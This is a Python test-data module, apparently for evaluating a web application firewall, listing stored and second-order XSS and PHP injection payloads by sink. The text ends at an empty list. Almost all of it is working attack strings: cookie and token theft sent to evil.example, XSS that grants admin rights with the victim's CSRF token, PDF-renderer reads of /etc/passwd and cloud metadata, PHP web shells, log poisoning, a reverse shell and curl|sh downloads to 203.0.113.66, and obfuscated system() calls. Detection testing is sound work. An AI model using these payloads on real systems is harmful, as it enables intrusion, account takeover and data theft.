"""Blind set "hundredninetysecond": stored and second-order XSS and PHP injection, planted in data that is saved
now and used later, with benign requests in which real people fill the same fields innocently.

The angle: stored and second-order payloads, recalled from memory. An attacker rarely needs the field to hurt at
once: a display name, a bio, a shipping address, an uploaded file's name, a saved setting or preference, a webhook
URL, a notification or e-mail template, an import file's cell, a search filter saved as a report, a User-Agent or
Referer written to a log that an admin opens, or a JSON document kept as a blob is stored now and read later by
something more trusting (the admin panel's HTML, a log viewer, a mail template, a PDF renderer, a dashboard that
feeds the blob to innerHTML, a PHP cache file or config that is included, an eval'd formula, unserialize() on a
cookie or a preferences column). Each payload is shaped for the sink that reads it later and still is a working
attack on its named target; the comment above each group names where it is stored, the sink and the target
(browser, PDF renderer, PHP interpreter, template engine, product).

Families (one sub-family per detection title):
  xss: libinjection-xss, script-tag, event-handler, attribute-vector (src/href/style/formaction), javascript-uri,
    html-injection (iframe/object/embed/base/meta/link/form), svg-mathml, css-expression,
    template-literal-dom-sink, ie-filter-style, encoded-entity, angular-vue-client-template
  php: php-open-tag, php-function-call (system/exec/passthru/shell_exec/popen/proc_open/assert/eval/
    create_function/preg_replace-e), php-variable-functions, php-wrappers (php://, data://, phar://, expect://,
    zip://, glob://), php-object-injection (serialized O:/a:/C:), php-config-directives, superglobals,
    php-file-upload (.php/.phtml/.phar names), php-high-risk-function-names

Placements: every payload is sent twice. Once to our real routes, under the names of the fields it is stored in
(display_name, bio, address, webhook_url, template, filter_name, ...): the query of /api/users, the admin search
form with its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an
XML body, a multipart field, the URL path; uploaded file names go as the admin import's multipart file name. Once
the way a WAF regression suite sends it (placements prefixed "rs-"): to paths that are not our routes (/,
/index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under arbitrary parameter names (foo, var, x,
test, id, arg1), as a query string, form body, JSON body, XML body, a raw form-typed body, or in User-Agent,
Referer, a custom header or a cookie. Payloads that a header cannot carry (non-ASCII, control characters, newlines)
never go into headers, cookies or the path.

Authorship and independence: written for this repository from general knowledge of each attack family, stored
and second-order attacks as remembered, and the detection titles alone; no WAF rule, engine source, ruleset
regression test or public payload list was read. Measured once on unchanged code; deterministic (no clock, no
randomness).
"""

from __future__ import annotations

import base64
from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet
from .records import print_records

NAME = "hundredninetysecond"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
UA = ("header:User-Agent", "rs-header:User-Agent")
REF = ("header:Referer", "rs-header:Referer")
FILE = ("multipart-filename", "rs-multipart-filename")

# ================================================================================================================
# XSS
# ----------------------------------------------------------------------------------------------------------------
# libinjection-xss: short break-outs from the HTML context a stored field lands in. Stored in a display name, bio
# or support-ticket subject; the sink is the admin user list or ticket queue (HTML); the target is the browser of
# the admin who opens it.
LIBINJECTION: list[Entry] = [
    # display name echoed into the value="" of the admin's edit form
    '"><script>alert(document.domain)</script>',
    "'><img src=x onerror=alert(1)>",
    '" autofocus onfocus=alert(document.cookie) x="',
    "' onmouseover='alert(1)",
    # bio shown back inside the edit form's <textarea>
    "</textarea><script>fetch('https://evil.example/c?'+document.cookie)</script>",
    "</textarea><svg/onload=alert(1)>",
    # display name placed into the profile page's <title>
    "</title><script>alert(origin)</script>",
    # display name embedded in the SPA's bootstrap <script> block as JSON
    "</script><script>alert(document.cookie)</script>",
    # nickname placed inside an HTML comment of the weekly digest e-mail (webmail renders it)
    "--><script>alert(1)</script><!--",
    # RSS item title stored by the blog importer, the CDATA section closes early in the feed reader's page
    "]]><script>alert(1)</script>",
    # ticket subject in the support agent's queue
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<x onclick=alert(1)>click for details",
    "<iframe srcdoc=\"<script>parent.alert(document.domain)</script>\">",
    '<a href=javascript:alert(1)>view invoice</a>',
    # sanitizer that treats noscript as text: the title attribute closes it when the admin page re-parses
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]

# script-tag: a whole <script> element planted in a stored field. Stored in a bio, address line, order note or
# notification template; the sink is the admin's order view or profile page (HTML); the target is the browser.
SCRIPT_TAG: list[Entry] = [
    # bio on the public profile, steals the visitor's session cookie
    "<script>new Image().src='https://evil.example/c?'+document.cookie</script>",
    # shipping address line, a BeEF hook for the warehouse admin who prints the order
    "<script src=https://evil.example/hook.js></script>",
    "<script src=//evil.example/x.js></script>",
    "<SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>",
    "<script>eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))</script>",
    # order note read by the admin: exfiltrates what the admin's session can read
    "<script>fetch('/api/users',{credentials:'include'}).then(r=>r.text()).then(t=>fetch('https://evil.example/x',"
    "{method:'POST',body:t}))</script>",
    # support ticket body: the admin's browser promotes the attacker with the admin's own CSRF token
    "<script>var x=new XMLHttpRequest();x.open('POST','/admin/users/42/role');x.setRequestHeader('Content-Type',"
    "'application/x-www-form-urlencoded');x.send('role=admin&csrf_token='+document.querySelector("
    "'[name=csrf_token]').value)</script>",
    "<script>document.location='https://evil.example/?c='+document.cookie</script>",
    # the profile saver strips <script> once: the nested copy reassembles
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<script\ttype=\"text/javascript\">alert(1)</script>",
    "<script>alert(1)</script >",
    "<ScRiPt>prompt(1)</sCrIpT>",
    # note saved in a single-page app: the API token lives in localStorage
    "<script>navigator.sendBeacon('//evil.example/b',localStorage.getItem('token'))</script>",
    "<script>\\u0061lert(1)</script>",
    "<script>top['al'+'ert'](document.domain)</script>",
    "<script>setTimeout('ale'+'rt(1)')</script>",
    # e-mail template footer previewed in the admin: the login form is re-pointed at the attacker
    "<script>window.onload=function(){document.forms[0].action='https://evil.example/phish'}</script>",
    "<script>import('//evil.example/m.js')</script>",
    "<script type=module>import'//evil.example/a.js'</script>",
    '"><script src=data:,alert(1)></script>',
    "<script>document.write('<img src=//evil.example/?'+escape(document.cookie)+'>')</script>",
]

# event-handler: an element whose handler fires by itself when the stored HTML is rendered. Stored in an avatar
# alt text, a company name, a review, a calendar event title; the sink is the admin's listing page or an HTML
# e-mail preview; the target is the browser.
EVENT_HANDLER: list[Entry] = [
    "<img src=x onerror=alert(document.cookie)>",
    "<img src=1 onerror=\"fetch('//evil.example/?'+document.cookie)\">",
    "<svg onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    # review text: the handler covers the whole page so any mouse move fires it
    '<div onmouseover="alert(1)" style="position:fixed;top:0;left:0;width:100%;height:100%">',
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<video src=x onerror=alert(1)>",
    "<object data=x onerror=alert(1)>",
    '<details/open/ontoggle="alert(1)">',
    "<img src=x onerror=this.src='//evil.example/?'+document.cookie>",
    "<body onhashchange=alert(1)><a href=#x>x</a>",
    "<xss onpointerenter=alert(1) style=display:block>hover here",
    # the admin panel ships Bootstrap: its spinner keyframes make the animation event fire on load
    "<p onanimationstart=alert(1) style=animation-name:spinner-border>",
    "<img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>",
    "<iframe onload=alert(1)>",
    "<marquee loop=1 width=0 onfinish=alert(1)>x</marquee>",
    "<style onload=alert(1)>",
    "<link rel=stylesheet href=x onerror=alert(1)>",
    "<img src=x:x onerror=window['al'+'ert'](1)>",
    "<image src=x onerror=alert(1)>",
    "<input type=image src=x onerror=alert(1)>",
    "<frameset onload=alert(1)>",
]

# attribute-vector: the payload lives in src/href/style/formaction/srcdoc, or breaks out of the attribute that a
# stored URL is written into. Stored in an avatar URL, a website link, an embed URL or a button label; the sink is
# the profile page or the admin's settings form; the target is the browser.
ATTRIBUTE: list[Entry] = [
    # button label stored in a form builder: the button submits to javascript:
    "<form><button formaction=javascript:alert(1)>Update profile</button></form>",
    "<input type=image formaction=javascript:alert(1) src=x>",
    # saved from outside the form: the form attribute re-targets the admin's settings form
    "<button form=settings formaction=//evil.example/steal>Save</button>",
    '" formaction="https://evil.example/collect',
    "<iframe src=javascript:alert(document.domain)>",
    "<embed src=javascript:alert(1)>",
    '<object data="javascript:alert(1)">',
    # avatar URL written into <img src="...">
    'x" onerror="alert(1)',
    "https://cdn.example.com/a.png' onerror='alert(1)",
    # video embed URL written into <iframe src="...">
    'https://www.youtube.com/embed/x" onload="alert(1)',
    '" srcdoc="<script>alert(1)</script>',
    '<iframe src="data:text/html,<script>alert(document.domain)</script>">',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">open attachment</a>',
    '" style="behavior:url(#default#time2)" onbegin="alert(1)',
    '<div style="background-image:url(javascript:alert(1))">',
    "<isindex action=javascript:alert(1) type=image>",
    "<video poster=javascript:alert(1)>",
    '<body background="javascript:alert(1)">',
    # dangling markup: the unclosed src leaks the admin page up to the next quote, CSRF token included
    "<img src='//evil.example/log?html=",
    '"><img src="https://evil.example/leak?',
    '<link rel=import href=//evil.example/x.html>',
    '<table background="javascript:alert(1)">',
]

# javascript-uri: a stored URL that the page later puts into an href, a window.open or a redirect. Stored in a
# website, a webhook URL, a "return to" setting or a saved report's link; the sink is the admin's link or the
# dashboard's redirect; the target is the browser.
JAVASCRIPT_URI: list[Entry] = [
    "javascript:alert(document.domain)",
    "javascript:fetch('//evil.example/?c='+document.cookie)",
    "JaVaScRiPt:alert(1)",
    # the webhook form only checks that the URL mentions the expected host
    "javascript://hooks.slack.com/%0aalert(1)",
    "javascript:alert(1)//https://hooks.slack.com/services/T000/B000/XXXX",
    "javascript:/*https://example.com/*/alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    " javascript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "javascript:alert%281%29",
    "javascript:eval(name)",
    "javascript:void(location='https://evil.example/?'+document.cookie)",
    "javascript:eval(location.hash.slice(1))",
    "javascript:'<img src=x onerror=alert(1)>'",
    "vbscript:msgbox(\"XSS\")",
    "javascript:import('//evil.example/x.js')",
    "jav&#x09;ascript:alert(1)",
    "javascript:\\u0061lert(1)",
    "javascript:window.opener.location='https://evil.example/phish'",
    "javascript:document.body.innerHTML='<form action=//evil.example/l><input name=p type=password></form>'",
]

# html-injection: markup without script that still attacks whoever renders it. Stored in an address, an invoice
# note, a notification template; the sinks are a PDF renderer (wkhtmltopdf, WeasyPrint, PD4ML) that reads local
# files and internal URLs, the admin page, the webmail that shows the mail; the targets are the renderer host and
# the reader's browser.
HTML_INJECTION: list[Entry] = [
    '<iframe src=https://evil.example/login width=100% height=600 frameborder=0></iframe>',
    # address printed on the packing slip PDF: the renderer reads the server's own files
    '<iframe src="file:///etc/passwd" width=800 height=800></iframe>',
    "<object data=file:///etc/passwd type=text/plain></object>",
    '<iframe src="http://169.254.169.254/latest/meta-data/iam/security-credentials/" width=1000 height=1000>',
    '<img src="http://127.0.0.1:8080/admin/export.csv">',
    "<link rel=attachment href=file:///etc/passwd>",
    '<annotation file="/etc/passwd" content="/etc/passwd" icon="Graph" title="Attached File: /etc/passwd" '
    'pos-x="195" />',
    "<embed src=https://evil.example/x.swf allowscriptaccess=always>",
    "<base href=//evil.example/>",
    '<meta http-equiv=refresh content="0;url=https://evil.example/phish">',
    "<link rel=stylesheet href=https://evil.example/keylog.css>",
    "<form action=https://evil.example/harvest method=post><input name=user placeholder=Username>"
    "<input name=pass type=password placeholder=Password><button>Sign in again</button></form>",
    '<meta http-equiv="Set-Cookie" content="session=attacker-fixed">',
    '<object data="https://evil.example/x.html" type="text/html" width=100% height=100%></object>',
    "<frameset><frame src=https://evil.example/></frameset>",
    "<portal src=https://evil.example/>",
    # same-origin clickjacking: the admin's own page under an invisible layer
    '<iframe src=/admin/users style="opacity:0;position:absolute;top:0;left:0;width:100%;height:100%">',
    # notification template: content spoofing in the mail every user receives
    "<h1>Your account is suspended</h1><a href=https://evil.example/verify>Verify now</a>",
    '<img src="https://evil.example/track.gif?u=admin" width=1 height=1>',
    # dangling form: everything after it in the admin page is posted to the attacker
    "<form action=//evil.example/d><button>Continue</button><textarea name=leak>",
    '<base target=_blank href="javascript:/a/-alert(1)///////">',
    "<embed src=\"data:text/html,<script>alert(document.domain)</script>\">",
]

# svg-mathml: SVG and MathML elements and the namespace confusions that slip past sanitizers. Stored in an
# uploaded logo or avatar (served from our origin), a rich-text bio cleaned by a sanitizer, a signature; the sink
# is the profile page or the file itself opened by the admin; the target is the browser.
SVG_MATHML: list[Entry] = [
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<svg><script xlink:href=//evil.example/x.js></script></svg>",
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click</text></a></svg>',
    "<svg><a id=x><text y=20>profile</text></a><set href=#x attributeName=href to=javascript:alert(1) /></svg>",
    '<svg><foreignObject><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe></foreignObject></svg>',
    "<svg><image href=x onerror=alert(1) />",
    "<svg><style>@import'//evil.example/s.css'</style></svg>",
    # the uploaded logo itself, served as image/svg+xml from our origin
    '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"/>',
    "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>fetch('/api/users').then(r=>r.text()).then(t=>"
    "fetch('//evil.example',{method:'POST',body:t}))</script></svg>",
    # rich-text bio cleaned by an old DOMPurify: namespace confusion brings the img back after re-parsing
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;'
    'onerror=alert(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><style><img src=x onerror=alert(1)></style></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>click<mtext>x</mtext></maction></math>",
    "<math href=javascript:alert(1)>click</math>",
    "<svg><discard onbegin=alert(1)>",
    "<svg><animatetransform onbegin=alert(1) attributeName=transform>",
    "<svg/onload=location='//evil.example/?'+document.cookie>",
    '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><title><a id=\"</title><img src=x onerror=alert(1)>\"></a></title></svg>",
]

# css-expression: the stored value is CSS. Stored in a profile theme colour, a "custom CSS" setting, a style
# attribute kept by the rich-text editor; the sinks are the page's <style> block and style="" attributes; the
# targets are the browser (old IE expression(), Firefox -moz-binding, any browser for CSS exfiltration).
CSS_EXPRESSION: list[Entry] = [
    "xss:expression(alert(1))",
    "width:expression(alert(document.cookie))",
    '<div style="width:expression(alert(1))">',
    'background:url("javascript:alert(1)")',
    "-moz-binding:url(//evil.example/xss.xml#xss)",
    "behavior:url(//evil.example/x.htc)",
    # theme colour written into the page's <style>: the colour closes and a beacon rule follows
    "red;background-image:url(//evil.example/leak?theme)",
    "#000;}body{background:url(//evil.example/p)}",
    # custom CSS field rendered inside <style>: it closes the element
    "</style><script>alert(1)</script>",
    "}</style><img src=x onerror=alert(1)><style>",
    "font-family:'x';}</style><svg onload=alert(1)>",
    "@import url(//evil.example/steal.css);",
    "@\\69mport url(//evil.example/x.css);",
    # attribute-selector exfiltration of the admin page's CSRF token, one character per rule
    "input[name=csrf_token][value^=a]{background:url(//evil.example/csrf?a)}",
    "@font-face{font-family:x;src:url(//evil.example/f?c=a);unicode-range:U+0061}",
    "x{}*{xss:expr/**/ession(alert(1))}",
    "<style>*{x:expression(alert(1))}</style>",
    "xss:e\\xpression(alert(1))",
    "list-style-image:url(javascript:alert(1))",
    # profile style: a full-screen fake login over the real page
    "color:red;position:fixed;top:0;left:0;width:100%;height:100%;"
    "background:url(//evil.example/fake-login.png);z-index:9999",
    '<link rel=stylesheet href="data:,*%7bx:expression(alert(1))%7d">',
]

# template-literal-dom-sink: stored data that client code later puts into a template literal, an inline script's
# string, eval/Function, innerHTML or location. Stored in a display name, a dashboard formula, a JSON preferences
# blob; the sinks are the inline <script> the server renders and the SPA's innerHTML; the target is the browser.
DOM_SINK: list[Entry] = [
    # display name rendered into `Hello ${...}` inside a backtick string of an inline script
    "${alert(document.domain)}",
    "`;alert(1);`",
    # display name rendered into var name='...' of an inline script
    "';alert(document.cookie);//",
    '\\";alert(1);//',
    "'-alert(1)-'",
    '"-alert(1)-"',
    # inline window.__STATE__ = {...} built by string concatenation
    '"};alert(1);var x={"a":"',
    "</script><img src=x onerror=alert(1)>",
    # dashboard widget formula evaluated with new Function()
    "Math.max(1);fetch('//evil.example/?'+document.cookie)",
    "constructor.constructor('alert(document.domain)')()",
    "[].constructor.constructor('alert(1)')()",
    # preferences JSON merged into defaults: prototype pollution reaches an innerHTML / srcdoc gadget
    '{"__proto__":{"innerHTML":"<img src=x onerror=alert(1)>"}}',
    '{"__proto__":{"srcdoc":["<script>alert(1)</script>"]}}',
    '{"constructor":{"prototype":{"html":"<img src=x onerror=alert(1)>"}}}',
    # dashboard layout blob: a widget of type html goes to innerHTML
    '{"theme":"dark","widgets":[{"type":"html","content":"<img src=x onerror=alert(1)>"}]}',
    "<img src=/ onerror=alert(localStorage.token)>",
    # saved "open after login" URL handed to location.href
    "javascript:location='//evil.example/?t='+localStorage.getItem('jwt')",
    "data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ+",
    # JSON unescaped by JSON.parse, then given to innerHTML
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "'+alert(1)+'",
    "#\"><img src=x onerror=alert(1)>",
]

# ie-filter-style: vectors of the Internet Explorer era (and the IE8 filter's blind spots) that old intranet
# pages, document-mode pages and embedded IE controls still run. Stored in a legacy CRM's notes, a page title, an
# HTA-rendered report; the sink is the IE-rendered admin page; the target is Internet Explorer / Trident.
IE_FILTER: list[Entry] = [
    "<img src=`x`onerror=alert(1)>",
    '<p style="xss:\\65xpression(alert(1))">',
    '<xml id=x><x><c><![CDATA[<img src=x onerror=alert(1)>]]></c></x></xml>'
    '<span datasrc=#x datafld=c dataformatas=html></span>',
    '<comment><img src="</comment><img src=x onerror=alert(1)//">',
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    '<meta http-equiv="X-UA-Compatible" content="IE=EmulateIE7"><div style=xss:expression(alert(1))>',
    '<object classid="clsid:333C7BC4-460F-11D0-BC04-0080C7055A83"><param name="DataURL" '
    'value="javascript:alert(1)"></object>',
    '<?import namespace="t" implementation="#default#time2">'
    '<t:set attributeName="innerHTML" to="XSS<script defer>alert(1)</script>">',
    '<html xmlns:xss><?import namespace="xss" implementation="//evil.example/x.htc"><xss:xss>x</xss:xss></html>',
    '<img dynsrc="javascript:alert(1)">',
    '<img lowsrc="javascript:alert(1)">',
    '<bgsound src="javascript:alert(1)">',
    '<br size="&{alert(1)}">',
    '<layer src="//evil.example/x.html"></layer>',
    "<style>@im\\port'\\ja\\vasc\\ript:alert(1)';</style>",
    '<a href="jav&#x0D;ascript:alert(1)">open</a>',
    '<a href="vbscript:Execute(MsgBox(document.cookie))">open</a>',
    "<isindex type=image src=1 onerror=alert(1)>",
    # page title stored without a charset: IE sniffs UTF-7
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
    '<div datafld="b" dataformatas="html" datasrc="#I"></div>'
    '<xml id="I"><x><b>&lt;img src=x onerror=alert(1)&gt;</b></x></xml>',
]

# encoded-entity: the stored value is encoded, and the sink (or a step before it) decodes it: an admin template
# that html_entity_decode()s, a log viewer that urldecode()s, a normaliser that NFKC-folds, or the HTML parser
# itself decoding entities inside attributes. Stored in an import cell, a log line, a display name; the target
# is the browser.
ENCODED: list[Entry] = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    "<img src=x onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;&#x28;&#x31;&#x29;>",
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">open</a>',
    "<img src=x onerror=\\u0061lert(1)>",
    "<img src=x onerror=eval('\\x61lert(1)')>",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\\u003cscript\\u003ealert(document.domain)\\u003c/script\\u003e",
    "<svg onload=&#97&#108&#101&#114&#116(1)>",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    '<img src=x onerror="&#0000097lert(1)">',
    '<iframe src="&#106;avascript&colon;alert&lpar;1&rpar;">',
    # display name folded by NFKC before it is rendered: full-width brackets become real ones
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    '<a href="javas&Tab;cript:alert(1)">open</a>',
    "<img src=x onerror=alert&#40;1&#41;>",
    "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\\74script\\76alert(1)\\74/script\\76",
    "%u003cscript%u003ealert(1)%u003c/script%u003e",
]

# angular-vue-client-template: stored text rendered inside a region that AngularJS or Vue compiles on the client,
# so the template engine evaluates the expression. Stored in a display name, a ticket subject, a saved filter's
# label; the sink is the admin SPA (AngularJS 1.x / Vue 2 / Vue 3 mounted on server-rendered HTML); the target
# is the client-side template engine in the browser.
CLIENT_TEMPLATE: list[Entry] = [
    # AngularJS 1.6+ (no sandbox)
    "{{constructor.constructor('alert(1)')()}}",
    "{{$on.constructor('alert(document.domain)')()}}",
    "{{constructor.constructor('fetch(\"//evil.example/?\"+document.cookie)')()}}",
    "{{[].pop.constructor('alert(1)')()}}",
    "{{x=valueOf.name.constructor.fromCharCode;constructor.constructor(x(97,108,101,114,116,40,49,41))()}}",
    "{{ $eval.constructor('alert(1)')() }}",
    # AngularJS 1.4 sandbox escape
    "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//');}}",
    "{{x = {'y':''.constructor.prototype}; x['y'].charAt=[].join;$eval('x=alert(1)');}}",
    # AngularJS 1.3 sandbox escape
    "{{toString.constructor.prototype.toString=toString.constructor.prototype.call;"
    "[\"a\",\"alert(1)\"].sort(toString.constructor);}}",
    # AngularJS 1.5 sandbox escape
    "{{a=toString().constructor.prototype;a.charAt=a.trim;$eval('a,alert(1),a')}}",
    # AngularJS with a CSP: the event object's path leads to window
    "<input autofocus ng-focus=\"$event.path|orderBy:'(z=alert)(document.cookie)'\">",
    "<div ng-app ng-csp><div ng-click=$event.view.alert(1)>click",
    "<img src=x ng-on-error=\"$event.target.ownerDocument.defaultView.alert(1)\">",
    "<div ng-include=\"'//evil.example/x.html'\"></div>",
    # Vue 2
    "{{_c.constructor('alert(1)')()}}",
    "{{_v.constructor('alert(document.cookie)')()}}",
    "{{this.constructor.constructor('alert(document.cookie)')()}}",
    "<x v-if=\"_c.constructor('alert(1)')()\">",
    "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>",
    "<p v-on:click=\"$event.view.alert(1)\">click me</p>",
    # Vue 3
    "{{$emit.constructor`alert(1)`()}}",
    # Vue configured with [[ ]] delimiters beside a server-side Jinja page
    "[[constructor.constructor('alert(1)')()]]",
]

# ================================================================================================================
# PHP
# ----------------------------------------------------------------------------------------------------------------
# php-open-tag: PHP code with its open tag, planted where a file will later be included or executed. Stored in a
# User-Agent or Referer written to the access log (later included through a local file inclusion), an avatar's
# comment, an installer's settings that are written into config.php, a template compiled to a PHP cache file, an
# import cell written into a .php export; the target is the PHP interpreter (and Smarty 2 / Blade compilers).
OPEN_TAG: list[Entry] = [
    # access-log poisoning: the UA is written verbatim, the log is then included via ?page=../../logs/access.log
    ("<?php system($_GET['cmd']); ?>", *UA),
    ("<?php passthru($_REQUEST['c']);?>", *UA),
    ("<?=`$_GET[0]`?>", *REF),
    "<? system($_POST['x']); ?>",
    "<?php eval(base64_decode($_POST['p']));?>",
    ("<?php @eval($_SERVER['HTTP_X_CMD']);?>", *UA),
    # avatar uploaded as a GIF whose comment is PHP, later included by the theme loader
    "GIF89a<?php echo shell_exec($_GET['e']); ?>",
    '<script language="php">system($_GET[\'c\']);</script>',
    "<% system($_GET['c']); %>",
    "<?php file_put_contents('/var/www/html/uploads/.s.php','<?php eval($_POST[1]);');?>",
    # site name saved by the installer into config.php inside '...'
    "';?><?php system($_GET['c']);?><?php $x='",
    "?><?php phpinfo();?>",
    "<?php $s=fsockopen(\"203.0.113.66\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");?>",
    "<?php if(isset($_COOKIE['k']))eval(gzinflate(base64_decode($_COOKIE['k'])));?>",
    "<?PHP SyStEm($_GET['c']);?>",
    "<?php\nsystem($_GET['c']);",
    "<?php\tsystem('id');?>",
    "<?=system('id')?>",
    "<?= include $_GET['f'] ?>",
    # notification template saved in a Smarty 2 CMS: {php} blocks run when the mail is rendered
    "{php}system('id');{/php}",
    "{php}eval($_POST['x']);{/php}",
    # page template saved in a CMS that compiles Blade: @php runs in the compiled view
    "@php system($_GET['c']) @endphp",
    "<?php echo file_get_contents('/etc/passwd'); ?>",
    # vCard cell written into a .php address book export
    "Name: <?php system('curl -s http://203.0.113.66/x|sh'); ?>",
    "<?php $_GET[a]($_GET[b]);?>",
    "<?php eval(file_get_contents('php://input'));?>",
    ("<?php echo `id`; ?>", *REF),
]

# php-function-call: a stored string that reaches eval(), assert(), create_function() or preg_replace() with /e
# and calls a command function. Stored in a price formula evaluated with eval("return $formula;"), a search-and-
# replace rule, a sort callback name, a language string compiled into a PHP array file, an admin "code snippet"
# setting; the target is the PHP interpreter.
FUNCTION_CALL: list[Entry] = [
    # price formula: eval("return " . $formula . ";")
    "1;system('id')",
    "0+system('cat /etc/passwd')",
    "1;print_r(scandir('/'))",
    "1;shell_exec('wget http://203.0.113.66/s -O /tmp/s;sh /tmp/s')",
    # page parameter placed into assert("strpos('$page', '..') === false")
    "') || system('id'); //",
    "' and die(show_source('/var/www/html/config.php')) or '",
    "'.passthru('ls -la').'",
    # sort field placed into create_function('$a,$b', 'return strcmp($a->' . $field . ', ...);')
    "x,1);}system('id');/*",
    "1;}passthru('uname -a');/*",
    # language string written into a PHP array file: $lang['x'] = '...';
    "';system($_GET['c']);//",
    "\";exec('id',$o);print_r($o);//",
    "'.system('id').'",
    "\".system('id').\"",
    "'); system('id'); //",
    "\"); passthru(\"id\"); //",
    "1);}system('id');//",
    # search-and-replace rule run through preg_replace() before PHP 5.5: the /e modifier evaluates the replacement
    "preg_replace('/.*/e','system(\"id\")','')",
    ".*/e\x00",
    "preg_replace('/x/e','passthru($_GET[c])','x')",
    "mb_ereg_replace('.*','system(\"id\")','x','e')",
    "create_function('','system(\"id\");')",
    "eval('system(\"id\");');",
    "assert('system(\"id\")');",
    "exec('nc -e /bin/sh 203.0.113.66 4444');",
    "popen('id','r');",
    "proc_open('id',[1=>['pipe','w']],$p);echo stream_get_contents($p[1]);",
    "pcntl_exec('/bin/sh',['-c','id']);",
    "passthru('cat /etc/passwd');",
    "shell_exec('curl http://203.0.113.66/`whoami`');",
]

# php-variable-functions: the function name is built at run time, so the stored code never names it literally.
# Stored in an admin "custom code" setting, a widget's PHP snippet, a double-quoted template compiled with eval;
# the target is the PHP interpreter.
VARIABLE_FUNCTIONS: list[Entry] = [
    "$a='sys'.'tem';$a('id');",
    "$_GET[0]($_GET[1]);",
    "('sys'.'tem')('id');",
    "\"system\"('id');",
    "call_user_func('system','id');",
    "array_map('passthru',['id']);",
    "array_filter(['id'],'system');",
    "register_shutdown_function('system','id');",
    "$f=strrev('metsys');$f('id');",
    "$f=base64_decode('c3lzdGVt');$f('id');",
    "$f=chr(115).chr(121).chr(115).chr(116).chr(101).chr(109);$f('id');",
    "$f=str_rot13('flfgrz');$f('id');",
    "$f='as'.'sert';$f($_POST['x']);",
    "${'_GE'.'T'}[0](${'_GE'.'T'}[1]);",
    "ob_start('system');echo 'id';ob_end_flush();",
    "array_walk($a=['id'],'system');",
    "(new ReflectionFunction('system'))->invoke('id');",
    "forward_static_call('system','id');",
    "filter_var('id',FILTER_CALLBACK,['options'=>'system']);",
    "usort($_GET,'system');",
    "iterator_apply($i=new ArrayIterator(['id']),'system',['id']);",
    # template compiled as a double-quoted string: the complex curly syntax runs the call
    "{${system('id')}}",
    "${system('id')}",
    "{${phpinfo()}}",
    "{${passthru($_GET[c])}}",
    # no letters at all: the name is XOR-ed from punctuation
    "$_=('\x01'^'`').('\x13'^'`').('\x13'^'`').('\x05'^'`').('\x12'^'`').('\x14'^'`');$_('phpinfo()');",
    # raw bytes: bitwise NOT of "system" and "id" (PHP 7 reads the bytes as a constant name)
    ("(~\x8c\x86\x8c\x8b\x9a\x92)(~\x96\x9b);", "query", "rs-query"),
]

# php-wrappers: a stored path or URL that a later include(), file_get_contents(), file_exists() or copy() opens.
# Stored in a theme or language path setting, an avatar URL, an import source URL, a "feed URL", a template path;
# the target is the PHP interpreter's stream wrappers (and phar:// metadata deserialization).
WRAPPERS: list[Entry] = [
